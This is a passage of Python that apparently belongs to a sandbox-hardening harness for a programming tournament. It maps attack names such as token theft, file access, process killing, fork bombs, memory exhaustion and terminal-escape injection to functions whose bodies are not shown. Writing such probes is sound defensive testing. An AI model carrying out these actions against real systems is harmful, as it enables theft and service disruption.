    print_escapes(payload=b"" if honest else ESCAPES.encode() + RAW_ESCAPES)
    sys.exit(3)


ATTACKS: dict[str, Callable[[Context], None]] = {
    "tokens": attack_tokens, "steal": attack_steal, "files": attack_files, "kill": attack_kill,
    "net": attack_net, "fork": attack_fork, "write": attack_write, "memory": attack_memory,
    "orphan": attack_orphan, "connections": attack_connections, "spectate": attack_spectate,
    "fill": attack_fill, "spin": attack_spin,
    "escapes": attack_escapes, "strays": attack_strays,
}
REPEATED = {"files", "kill", "spectate", "strays"}  # again and again while the tournament runs
